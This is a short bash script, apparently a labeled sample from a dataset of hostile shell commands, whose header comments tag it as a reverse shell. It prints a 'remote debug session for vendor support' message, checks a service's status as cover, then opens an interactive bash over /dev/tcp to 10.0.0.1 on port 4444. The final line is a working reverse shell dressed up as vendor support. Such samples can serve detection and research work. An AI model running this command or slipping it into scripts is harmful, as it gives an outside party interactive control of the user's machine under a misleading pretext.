# description: Opens an interactive bash over /dev/tcp to an external address as a "remote debugging session".
# family: reverse-shell
set -uo pipefail

echo "Starting remote debug session for vendor support"
systemctl status myapp --no-pager -n 5
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
